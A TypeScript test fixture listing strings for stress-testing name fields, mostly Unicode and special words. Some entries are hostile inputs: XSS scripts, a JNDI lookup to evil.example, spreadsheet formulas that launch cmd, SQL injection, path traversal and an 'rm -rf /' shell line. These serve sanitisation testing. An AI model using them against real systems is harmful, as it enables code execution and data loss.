/**
 * Sixty texts that careless programs change, lose or execute. Each has 3 to 100 characters, so that every name field
 * accepts it; longer texts have their own tests.
 */
export const injectionPayloads: readonly string[] = [
  // Markup and scripts.
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg/onload=alert(1)>",
  '<b>bold</b> &amp; &lt;i&gt;',
  '<!-- comment --> <style>*{display:none}</style>',
  'javascript:alert(1)//',
  '</textarea></title></script><script>alert(1)</script>',
  '&#x3C;iframe src=javascript:alert(1)&#x3E;',
  '&nbsp;&copy;&hellip;',
  // Template syntax.
  '{{7*7}}${7*7}<%= 7*7 %>',
  '{{name}} {{count}} {{-name}}',
  '$t(crud:delete) $t(app:retry)',
  '${constructor.constructor("return 1")()}',
  '#{7*7} *{7*7} @(7*7) [[7*7]]',
  '%s %d %n %x %@ %1$s',
  '${jndi:ldap://evil.example/a}',
  // Spreadsheet formulas.
  '=HYPERLINK("http://evil.example";"click")',
  '+1+cmd|’/c calc’!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
  '=1+1',
  // SQL, shell, paths, URLs.
  "Robert'); drop table users;--",
  "' or '1'='1",
  '; rm -rf / && $(reboot) `id`',
  '../../../../etc/passwd',
  'C:\\Windows\\win.ini \\n \\0 \\u0000',
  '%3Cscript%3E %00 %2e%2e%2f %E0%A4%A',
  'a&b=c?d#e/f;g+h i',
  '"quoted", \'single\', `back`, \\slash\\',
  // Special words.
  'null',
  'undefined',
  'NaN',
  'true',
  '[object Object]',
  '__proto__',
  'constructor',
  '000123',
  '1e309',
  '12-06-2026',
  // Left-to-right and right-to-left scripts.
  'مرحبا بالعالم \u200F(1)',
  'שלום \u2067עולם\u2069',
  'abc\u202Edcba\u202C',
  'فارسی ۱۲۳ ABC',
  'สวัสดีชาวโลก',
  '你好，世界 こんにちは 안녕하세요',
  'नमस्ते दुनिया',
  'Ελληνικά Кириллица ქართული',
  'ᚠᛇᚻ ᛒᛦᚦ ꙮ 𒐫',
  // Characters outside the basic plane, joined, combined, stacked.
  '🤟🏽 sign 👩🏽‍🦻 𝕊𝕃',
  '👨‍👩‍👧‍👦 🏳️‍🌈 🇪🇪🇮🇸',
  'z̸̢̛̤͙a̷l̶g̵o̴',
  'Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034F\u0334\u0319\u0324 A\u0301\u0302\u0303\u0304',
  'é e\u0301 ñ n\u0303 Å A\u030A',
  'ﬁ ﷽ ǆ İstanbul ẞ ß ı',
  'Ⅻ ½ ² ™ ℃ ㍿',
  // Invisible characters.
  'a\u200Bb\uFEFFc\u2060d',
  'soft\u00ADhyphen no\u00A0break',
  'tag\u{E0041}\u{E0042} variation\uFE0F',
  // Words without a line break opportunity.
  'W'.repeat(100),
  'Ünbrėakåblê_'.repeat(8),
];

/** One of these texts as it is stored and shown: without characters that have no form of their own, and with ordinary spaces. */
export function storedPayload(text: string): string {
  return text
    .normalize('NFC')
    .replace(/\u034F|[\u00AD\u200B\u200F\u202C\u202E\u2060\u2067\u2069\uFEFF]/g, '')
    .replace('\u00A0', ' ')
    .trim();
}
